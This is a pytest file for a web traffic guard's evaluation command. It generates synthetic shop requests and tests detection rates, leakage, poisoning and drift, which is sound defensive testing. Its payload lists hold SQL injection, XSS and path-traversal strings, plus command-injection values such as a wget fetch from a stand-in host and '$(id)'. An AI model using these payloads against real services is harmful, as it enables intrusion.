# SPDX-License-Identifier: Apache-2.0
"""guard eval: the report card agrees with guard learn and guard check and with an independent scorer, and labels teach nothing."""

import gzip
import json
import math
import os
import pathlib
import random
import re
import subprocess
import sys
import xml.etree.ElementTree

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from conftest import BIN  # noqa: E402
from traffic import Shop  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[3]
SHARED = pathlib.Path(os.environ.get("GUARD_SHARED", ROOT.parent / "shared"))
PAYLOADS = {"sqli": ["tom' or '1'='1", "1;drop table t", "x' union select 1--"], "xss": ["<script>a(1)</script>", "\"><b onx=1>"],
            "traversal": ["../../etc/passwd", "..\\..\\boot.ini"]}


def guard(*arguments, status=0):
    done = subprocess.run([BIN / "guard", *map(str, arguments)], capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == status, (arguments, done.returncode, done.stdout[-2000:], done.stderr[-2000:])
    return done


def write(path, exchanges):
    text = "".join(json.dumps(exchange) + "\n" for exchange in exchanges)
    if path.suffix == ".gz":
        path.write_bytes(gzip.compress(text.encode()))
    else:
        path.write_text(text)
    return path


def quoted(text):
    return "".join(c if c.isalnum() else f"%{ord(c):02x}" for c in text)


def attack(shop, generator):
    """A benign request of which one value is changed, with its label."""
    name = generator.choice(sorted(PAYLOADS))
    payload = generator.choice(PAYLOADS[name])
    kind = generator.randrange(3)
    if kind == 0:
        exchange, place = shop.exchange("GET", f"/users?username={quoted(payload)}"), ("query", "username")
    elif kind == 1:
        exchange, place = shop.exchange("GET", f"/products/{quoted(payload)}?page=2"), ("path", "seg1")
    else:
        body = {"item": "hat", "quantity": 2, "address": {"city": payload, "zip": "3000"}, "tags": []}
        exchange = shop.exchange("POST", "/orders", [["content-type", "application/json"]], json.dumps(body))
        place = ("json", "address.city")
    exchange["label"] = {"attack": True, "class": name, "location": place[0], "param": place[1], "encoding": "url"}
    return exchange


def labelled(exchanges, prefix, **label):
    for i, exchange in enumerate(exchanges):
        exchange["id"] = f"{prefix}{i}"
        exchange["label"] = {"attack": False, **label, **exchange.get("label", {})}
    return exchanges


def shop_data(folder, service, seed, train=1500, test=500):
    folder.mkdir(parents=True, exist_ok=True)
    shop, generator = Shop(seed, service=service), random.Random(seed + 1)
    write(folder / f"{service}-train.jsonl.gz", labelled(shop.many(train), f"{service}-tr"))
    benign = labelled(shop.many(test), f"{service}-te")
    for exchange in benign[::97]:  # some false positives, so that there is something to count
        exchange["request"]["target"] = f"/new/{exchange['id']}?q=%3c3"
    lookalikes = labelled(shop.many(20), f"{service}-lo", **{"class": "lookalike"})
    write(folder / f"{service}.test-benign.jsonl", benign + lookalikes)
    attacks = [attack(shop, generator) for _ in range(test // 2)]
    write(folder / f"{service}.attacks.jsonl", labelled(attacks, f"{service}-at"))


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    folder = tmp_path_factory.mktemp("eval") / "shops"
    shop_data(folder, "alpha", 5)
    shop_data(folder, "beta", 6)
    return folder


def card(*arguments):
    return [json.loads(line) for line in guard("eval", "--format", "json", *arguments).stdout.splitlines()]


def detector(report, name, alpha=None):
    return next(d for d in report["detectors"] if d["detector"] == name and (alpha is None or math.isclose(d["alpha"], alpha)))


def checked(folder, data, alpha):
    """Verdicts by guard learn and guard check, in the independent scorer's form."""
    verdicts = {}
    for service in ("alpha", "beta"):
        guard("learn", "--service", service, "--pile", folder / f"{service}.pile", "--guardian", folder / f"{service}.yaml",
              data / f"{service}-train.jsonl.gz")
        out = guard("check", "--guardian", folder / f"{service}.yaml", "--alpha", alpha, "--likeness", "off", "--signatures", "off",
                    "--format", "jsonl", data / f"{service}.test-benign.jsonl", data / f"{service}.attacks.jsonl").stdout
        for line in out.splitlines():
            verdict = json.loads(line)
            first = (verdict.pop("findings") or [{}])[0]
            verdict.update({"location": first["location"], "param": first["name"]} if first else {})
            verdicts[verdict["id"]] = verdict
    return verdicts


def test_the_card_counts_what_learn_and_check_do(data, tmp_path):
    report, = card(data)
    verdicts = checked(tmp_path, data, 0.001)
    novelty = detector(report, "novelty", 0.001)
    for service in ("alpha", "beta"):
        of = [json.loads(line) for kind in ("test-benign", "attacks")
              for line in (data / f"{service}.{kind}.jsonl").read_text().splitlines()]
        blocked = {e["id"] for e in of if verdicts[e["id"]]["verdict"] == "block"}
        benign = [e for e in of if not e["label"]["attack"] and e["label"].get("class") != "lookalike"]
        attacks = [e for e in of if e["label"]["attack"]]
        figures = novelty["services"][service]
        assert (figures["benign"], figures["attacks"]) == (len(benign), len(attacks)) == (500, 250)
        assert figures["false_positives"] == sum(e["id"] in blocked for e in benign) > 0
        assert figures["tpr"] == pytest.approx(sum(e["id"] in blocked for e in attacks) / len(attacks), abs=1e-6)
        assert figures["tpr"] > 0.5
        clients = {e["client"] for e in benign}
        assert figures["benign_clients"] == len(clients)
        assert figures["benign_clients_blocked"] == len({e["client"] for e in benign if e["id"] in blocked})
    assert novelty["explained"]["share_of_detected"] > 0.9


@pytest.mark.parametrize("alpha", [0.01, 0.0001])
def test_it_agrees_with_the_independent_scorer(data, tmp_path, alpha):
    scorer = SHARED / "tools" / "score.py"
    if not scorer.exists():
        pytest.skip("../shared/tools/score.py isn't there: no independent scorer to agree with")
    write(tmp_path / "verdicts.jsonl", checked(tmp_path, data, alpha).values())
    files = [data / f"{service}.{kind}.jsonl" for service in ("alpha", "beta") for kind in ("test-benign", "attacks")]
    done = subprocess.run([sys.executable, scorer, "--data", *files, "--train", *data.glob("*-train.jsonl.gz"), "--verdicts",
                           tmp_path / "verdicts.jsonl"], capture_output=True, text=True, timeout=300, check=True)
    theirs, ours = json.loads(done.stdout), detector(card(data)[0], "novelty", alpha)

    def compare(expected, found, path):
        if isinstance(expected, dict):
            for key in expected.keys() & found.keys():
                compare(expected[key], found[key], f"{path}.{key}")
        elif isinstance(expected, list):
            for i, value in enumerate(expected):
                compare(value, found[i], f"{path}[{i}]")
        else:
            assert found == pytest.approx(expected, abs=2e-6), path
    for member in ("pooled", "macro", "worst_decile", "services", "by_class", "by_class_location_encoding", "explained"):
        assert theirs[member].keys() & ours[member].keys(), member
        compare(theirs[member], ours[member], member)
    for member in ("services", "by_class", "by_class_location_encoding"):
        assert theirs[member].keys() == ours[member].keys(), member


def test_labels_teach_nothing(data, tmp_path):
    """The same traffic, with training labels that lie and test labels turned round: the same requests are blocked."""
    before = detector(card(data)[0], "novelty", 0.001)["pooled"]
    for path in data.iterdir():
        opener = gzip.open if path.suffix == ".gz" else open
        with opener(path, "rt") as file:
            exchanges = [json.loads(line) for line in file]
        for exchange in exchanges:
            exchange["label"] = {"attack": not exchange["label"]["attack"], "class": "x"}
        write(tmp_path / path.name, exchanges)
    after = detector(card(tmp_path)[0], "novelty", 0.001)["pooled"]
    lookalikes = 2 * 20
    assert (after["benign"], after["attacks"]) == (before["attacks"], before["benign"] + lookalikes)
    assert after["false_positives"] == round(before["tpr"] * before["attacks"])


def test_the_text_says_what_the_figures_are_worth(data):
    text = guard("eval", data).stdout
    assert "shops: 2 services, 1000 benign requests" in text
    assert text.index("leak probe") < text.index("pool: TPR")
    assert re.search(r"\+ signatures +not built", text)
    assert "alpha 0.0001 is 864 false blocks a day at 100 requests/s; pool: not testable (1000 benign requests, 30000 needed)" in text
    assert "below 0.3 % (3 in 1000) has not been shown" in text
    assert "no poisoning claim" not in text
    assert re.search(r"benign lookalikes blocked: \d+ of 40", text)
    assert re.search(r"us to judge an exchange", text)


def test_data_without_clients_makes_no_poisoning_claim(tmp_path):
    shop = Shop(9)
    for name, count, is_attack in (("train", 300, False), ("test-benign", 60, False), ("attacks", 30, True)):
        exchanges = shop.many(count)
        for exchange in exchanges:
            del exchange["client"], exchange["time"]
            exchange["label"] = {"attack": is_attack}
        write(tmp_path / f"{name}.jsonl", exchanges)
    assert "no poisoning claim" in guard("eval", tmp_path).stdout
    assert card(tmp_path)[0]["poisoning_claim"] is False


def test_a_leak_is_told(tmp_path):
    shop = Shop(11)
    for name, count, is_attack in (("train", 300, False), ("test-benign", 200, False), ("attacks", 200, True)):
        exchanges = shop.many(count)
        for exchange in exchanges:
            exchange["label"] = {"attack": True} if is_attack else {"attack": False, "class": "benign"}
            if is_attack:
                exchange["request"]["headers"].append(["x-scanner", "1"])
        write(tmp_path / f"{name}.jsonl", exchanges)
    report, = card(tmp_path)
    assert report["leak_probe"]["header presence"] == 1 and report["leak_probe"]["header order"] > 0.99
    assert report["leak_probe"]["version"] == pytest.approx(0.5)
    assert "LEAK" in guard("eval", tmp_path).stdout


def test_one_file_whose_labels_split_it(data, tmp_path):
    lines = []
    for name, split in (("alpha-train.jsonl.gz", "train"), ("alpha.test-benign.jsonl", "test"), ("alpha.attacks.jsonl", "test")):
        opener = gzip.open if name.endswith(".gz") else open
        with opener(data / name, "rt") as file:
            for line in file:
                exchange = json.loads(line)
                exchange["label"]["split"] = split
                lines.append(exchange)
    random.Random(3).shuffle(lines)
    lines.sort(key=lambda exchange: exchange["time"])
    one, = card(write(tmp_path / "all.jsonl", lines))
    learned = one["learned"]["alpha"]["exchanges"]
    pooled = detector(one, "novelty", 0.01)["pooled"]
    assert (learned, pooled["benign"], pooled["attacks"]) == (1500, 500, 250)
    assert pooled["tpr"] > 0.5


def test_options_name_the_files_and_the_manifest_too(data, tmp_path):
    by_folder = card(data)[0]
    by_options = card("--train", data / "alpha-train.jsonl.gz", "--train", data / "beta-train.jsonl.gz",
                      "--benign", data / "alpha.test-benign.jsonl", "--benign", data / "beta.test-benign.jsonl",
                      "--attacks", data / "alpha.attacks.jsonl", "--attacks", data / "beta.attacks.jsonl")[0]
    manifest = {"set": "x", "files": [{"file": path.name, "bytes": 1} for path in sorted(data.iterdir())]}
    (data / "manifest.json").write_text(json.dumps(manifest))
    by_manifest = card(data / "manifest.json")[0]
    (data / "manifest.json").unlink()
    for other in (by_options, by_manifest):
        assert other["detectors"] == by_folder["detectors"]
    assert by_manifest["settings"] == by_folder["settings"]
    other_alpha = card("--alpha", "0.02", data)[0]
    assert other_alpha["settings"] != by_folder["settings"]
    again, = card(data)
    assert {k: v for k, v in again.items() if k != "microseconds"} == {k: v for k, v in by_folder.items() if k != "microseconds"}


def test_errors_name_file_and_line(data, tmp_path):
    bad = tmp_path / "bad.test-benign.jsonl"
    bad.write_text('{"id":"a","service":"alpha","request":{"method":"GET","target":"/"},"label":{"attack":false}}\n{"id":\n')
    done = guard("eval", "--train", data / "alpha-train.jsonl.gz", "--attacks", data / "alpha.attacks.jsonl", bad)
    assert f"{bad}:2: unreadable" in done.stderr and "1 unreadable lines" in done.stdout
    assert "no files to judge" in guard("eval", data / "alpha-train.jsonl.gz", status=1).stderr
    assert "no files to learn from" in guard("eval", data / "alpha.attacks.jsonl", status=1).stderr
    assert "can't be read" in guard("eval", tmp_path / "nowhere", status=1).stderr
    for wrong in (["--alpha", "2"], ["--alpha", "x"], ["--format", "xml"], ["--baseline", "snort"], ["--support", "9"], ["--learn", "0"]):
        guard("eval", *wrong, data, status=2)
    guard("eval", status=2)


def test_the_min_max_learner_stands_beside_and_can_be_left_out(data):
    report, = card(data)
    baseline = detector(report, "min/max")
    assert baseline["pooled"]["tpr"] > 0.9 and "alpha" not in baseline
    assert all(d["detector"] != "min/max" for d in card("--baseline", "none", data)[0]["detectors"])


WORDS = "garden river yellow window people morning letter kitchen summer mountain paper bottle".split()
MARKS = [" ", " ", " ", ", ", ". ", " (", ") ", '"', '" ', " = ", "=", "; ", " < ", ">", "/", "*", "#", "%", "-", "! ", "&", "|", ":", "_", "+", "$",
         "\n", "1", "20", "3 ", "\\", "[", "]", "{", "}", "~", "^", "@"]
INJECTED = {"xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"],
            "cmdi": ["; wget http://e.example/x", "$(id)", "| ping 192.0.2.1"]}


def notes(folder, labels, train=1500, test=300, each=80):
    """Free text with all characters in any order: novelty has nothing to say, so what is found is found by what it reads like."""
    shop, generator = Shop(21, service="notes"), random.Random(22)

    def exchange(text, **label):
        made = shop.exchange("POST", "/notes", [["content-type", "application/json"]], json.dumps({"note": text}))
        return {**made, "label": label}

    def note():
        return "".join(generator.choice(WORDS) + "".join(generator.choice(MARKS) for _ in range(generator.randrange(1, 5)))
                       for _ in range(generator.randrange(1, 16)))
    folder.mkdir()
    write(folder / "train.jsonl", [exchange(note(), attack=False) for _ in range(train)])
    write(folder / "test-benign.jsonl", [exchange(note() if i % 50 else "as in <svg onload=go()>", attack=False) for i in range(test)])
    write(folder / "attacks.jsonl", [exchange(f"{generator.choice(WORDS)} {generator.choice(INJECTED[kind])}", attack=True,
                                              **{"class": label, "location": "json", "param": "note"})
                                     for kind, label in labels for _ in range(each)])
    return folder


def left_out(report, name):
    return next(row for row in report["left_out"] if row["class"] == name)


def test_without_its_own_class_an_attack_is_judged_by_the_others(tmp_path):
    data = notes(tmp_path / "notes", [("xss", "xss"), ("cmdi", "cmdi"), ("xss", "odd")])
    report, = card("--alpha", "0.05", data)
    script, shell = left_out(report, "script"), left_out(report, "shell")
    assert (script["attacks"], shell["attacks"], script["benign"]) == (80, 80, 300)
    assert script["tpr_novelty"] < 0.1 < 0.9 < script["tpr_likeness"] and script["tpr"] < 0.1
    assert script["tpr_ci95"][1] < 0.2 and script["fpr_ci95"][0] <= script["fpr"] <= 0.05
    with_it, without = detector(report, "+ likeness"), detector(report, "+ likeness, own class left out")
    assert with_it["by_class"]["odd"]["tpr"] > 0.9 and without["by_class"]["odd"] == {"n": 0, "tpr": None}
    assert (without["pooled"]["attacks"], without["pooled"]["benign"]) == (160, 300)
    assert without["pooled"]["tpr"] == pytest.approx((script["tpr"] + shell["tpr"]) / 2, abs=1e-6)
    assert script["false_positives"] < shell["false_positives"], "a few benign notes read like script"
    assert without["pooled"]["false_positives"] == max(script["false_positives"], shell["false_positives"])
    text = guard("eval", "--alpha", "0.05", "--svg", tmp_path / "plots", data).stdout
    assert plots(tmp_path / "plots") == {"notes-card.svg"}
    assert ">own class left out</text>" in (tmp_path / "plots" / "notes-card.svg").read_text()
    assert re.search(r"none of likeness is known for: odd \(80\)", text)
    assert re.search(r"\n  script +0.05 +80 ", text) and "not built\n  own" not in text


def test_only_the_class_that_the_label_names_is_left_out(tmp_path):
    """The same attacks, labelled as the other kind: each is still known by its real class."""
    report, = card("--alpha", "0.05", notes(tmp_path / "notes", [("xss", "cmdi"), ("cmdi", "xss")]))
    for name in ("script", "shell"):
        row = left_out(report, name)
        assert row["attacks"] == 80 and row["tpr_likeness"] > 0.9
        assert row["tpr"] > 0.9


def test_what_comes_through_a_pipe_is_judged_once(tmp_path):
    data = notes(tmp_path / "notes", [("xss", "xss")], train=300, test=20, each=5)
    done = subprocess.run([BIN / "guard", "eval", "--format", "json", "--train", data / "train.jsonl", "--benign", data / "test-benign.jsonl",
                           "--attacks", "-"], input=(data / "attacks.jsonl").read_text(), capture_output=True, text=True, timeout=300, check=True)
    report = json.loads(done.stdout)
    assert "left_out_skipped" in report and report["left_out"] == []
    assert detector(report, "novelty")["pooled"]["attacks"] == 5


def test_the_newest_exchanges_are_learned_when_not_all_are(tmp_path):
    """A release in the training traffic: who learns its last part knows what is judged."""
    shop = Shop(31)
    old, new, test = shop.many(600), shop.many(600), labelled(shop.many(200), "t")
    for exchange in new + test:
        exchange["request"]["target"] = "/v2" + exchange["request"]["target"]
    for order, name in ((old + new, "newest"), (new + old, "oldest")):
        (tmp_path / name).mkdir()
        write(tmp_path / name / "train.jsonl", labelled(order, "l"))
        write(tmp_path / name / "test-benign.jsonl", test)
    newest, oldest = (card("--alpha", "0.01", "--learn", "500", tmp_path / name)[0] for name in ("newest", "oldest"))
    assert newest["learned"]["shop"]["exchanges"] == oldest["learned"]["shop"]["exchanges"] == 500
    assert detector(newest, "novelty")["pooled"]["fpr"] < 0.1
    assert detector(oldest, "min/max")["pooled"]["fpr"] > 0.9 > 0.1 > detector(newest, "min/max")["pooled"]["fpr"]


def curves(mode, *arguments):
    return [json.loads(line) for line in guard("eval", mode, "--format", "json", *arguments).stdout.splitlines()]


def plots(folder):
    for path in folder.iterdir():
        root = xml.etree.ElementTree.parse(path).getroot()
        assert root.tag.endswith("svg") and root.findall(".//{*}path") and root.findall(".//{*}text"), path
    return {path.name for path in folder.iterdir()}


def test_the_learning_curve_rises_and_ends_where_the_card_is(data, tmp_path):
    curve, = curves("curve", "--svg", tmp_path / "plots", data)
    points = curve["curve"]
    assert [p["learned"] for p in points] == [30, 100, 300, 1000, 1500]
    assert points[0]["tpr"] < points[-1]["tpr"]
    assert points[-1]["tpr"] == pytest.approx(detector(card(data)[0], "novelty", 0.0001)["pooled"]["tpr"], abs=1e-6)
    assert plots(tmp_path / "plots") == {"shops-curve.svg"}
    assert "exchanges learned of each service" in guard("eval", "curve", data).stdout


def test_poison_of_one_client_costs_little_and_of_many_more(data, tmp_path):
    poison, = curves("poison", "--svg", tmp_path / "plots", data)
    of = {(s["share"], s["clients"], "creeping" in s["scenario"]): s for s in poison["poison"]}
    assert len(of) == 8 and poison["clean_tpr"] > 0.5
    for share in (0.001, 0.01, 0.05):
        assert of[share, 1, False]["points_lost"] <= 2
    assert of[0.01, 1, True]["points_lost"] <= 2
    assert of[0.05, 1, False]["attacks_learned"] == 2 * 75
    assert of[0.05, 20, False]["points_lost"] > 5, "20 clients teach what they do: that is what support means"
    assert plots(tmp_path / "plots") == {"shops-poison.svg"}
    assert curves("poison", data)[0] == poison
    disarm, = curves("disarm", data)
    assert disarm["disarm"][0]["attacks_learned"] == 2 * 50 * 20


def test_drift_shows_every_window(data, tmp_path):
    drift, = curves("drift", "--svg", tmp_path / "plots", data)
    for service in ("alpha", "beta"):
        assert [w["learned"] for w in drift["drift"][service]] == [1000]
        assert drift["drift"][service][0]["tpr"] > 0.3
        assert drift["drift"][service][0]["fpr"] < 0.05
    assert plots(tmp_path / "plots") == {"shops-drift-0.svg", "shops-drift-1.svg"}


def test_drift_judges_each_kind_of_release(data):
    blocked = {}
    for kind in ("parameter", "missing", "content-type", "status"):
        drift, = curves("drift", "--alpha", "1e-2", "--release", "600", "--release-kind", kind, data)
        windows = [window for service in ("alpha", "beta") for window in drift["drift"][service]]
        assert all(window["declared_blocked"] <= window["blocked"] and window["declared_tpr"] > 0.2 for window in windows)
        blocked[kind] = (sum(window["blocked"] for window in windows), sum(window["declared_blocked"] for window in windows))
    for kind in ("parameter", "missing"):  # what the service answers isn't in this traffic
        assert blocked[kind][0] > 2 * blocked[kind][1], blocked
    done = subprocess.run([BIN / "guard", "eval", "drift", "--release-kind", "other", data], capture_output=True, text=True,
                          timeout=60, check=False)
    assert done.returncode != 0 and "--release-kind is parameter, missing, content-type or status" in done.stderr


def test_gates_merge_in_any_order_and_judge_as_one_learner(data):
    merge, = curves("merge", data)
    assert [m["gates"] for m in merge["merge"]] == [2, 4, 8]
    for kind in merge["merge"]:
        assert kind["same_bytes"] is True and kind["same_verdict"] >= 0.99 and kind["judged"] == 2 * 770


def test_modsecurity_is_asked_or_its_absence_told(data, tmp_path):
    report, = card("--baseline", "modsecurity", "--modsecurity-module", "/nowhere/module.so", data)
    assert "/nowhere/module.so" in report["modsecurity_skipped"]
    assert "skipped: " in guard("eval", "--baseline", "modsecurity", "--modsecurity-module", "/nowhere/module.so", data).stdout
    module = os.environ.get("GUARD_MODSECURITY_MODULE", "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
    benign = Shop(41).many(100)
    for exchange in benign:
        exchange["request"]["headers"] += [["accept-charset", "utf-8"], ["host", "192.0.2.1"]]
    benign[0]["request"]["method"] = "DELETE"
    write(tmp_path / "train.jsonl", labelled(benign, "m"))
    write(tmp_path / "test-benign.jsonl", benign)
    report, = card("--baseline", "modsecurity", "--modsecurity-module", module, data)
    if "modsecurity_skipped" in report:
        pytest.skip("no ModSecurity to compare with: " + report["modsecurity_skipped"])
    figures = detector(report, "modsecurity")["pooled"]
    assert figures["tpr"] > 0.5 and figures["fpr"] < 0.5
    assert "900250" in report["modsecurity_policy"]
    plain, = card("--baseline", "modsecurity", "--modsecurity-module", module, tmp_path)
    assert detector(plain, "modsecurity")["pooled"]["false_positives"] == 0, "the site's policy is no detection"
